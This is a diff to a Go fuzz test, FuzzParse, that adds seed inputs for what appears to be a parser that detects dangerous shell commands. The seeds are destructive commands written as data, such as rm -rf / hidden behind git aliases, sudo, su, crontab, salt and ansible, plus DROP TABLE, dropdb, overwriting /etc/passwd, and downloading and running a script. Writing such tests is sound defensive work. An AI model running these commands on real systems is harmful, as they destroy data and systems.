@@ -297,7 +297,9 @@ func FuzzParse(f *testing.F) {
 		"kubectl -n p exec -it db-0 -- psql -c 'DROP TABLE t'", "docker compose exec -T web rm -rf /app", "npx -c 'rm -rf ~'",
 		"env -S 'rm -rf' /", "curl -o i.sh https://x && bash i.sh", "alias x='rm -rf /'; x", "awk 'BEGIN{system(\"rm -rf /\")}'",
 		"> /etc/passwd", "{ echo; } > /etc/hosts", "docker run --rm -v /:/host --entrypoint sh alpine -c 'rm -rf /host'", "echo 'DROP TABLE t' | psql", "git reset --ha", "command -V git reset --hard",
-		"su root -c 'rm -rf /'", "echo '@reboot rm -rf ~' | crontab -", "tmux send-keys -t x 'rm -rf /' Enter", "at now <<< 'rm -rf /'"} {
+		"su root -c 'rm -rf /'", "echo '@reboot rm -rf ~' | crontab -", "tmux send-keys -t x 'rm -rf /' Enter", "at now <<< 'rm -rf /'",
+		"git -c alias.x='!rm -rf' -c core.pager=less x /", "GIT_SSH_COMMAND='rm -rf ~' git -c alias.y='reset --hard' y", "sudo -s <<< 'rm -rf /'",
+		"su - postgres <<EOF\ndropdb app\nEOF", "ansible all -m file -a 'path=/ state=absent'", "salt '*' cmd.run 'rm -rf /'", "uv run --with x rm -rf /"} {
 		f.Add(s)
 	}
 	f.Fuzz(func(t *testing.T, line string) {
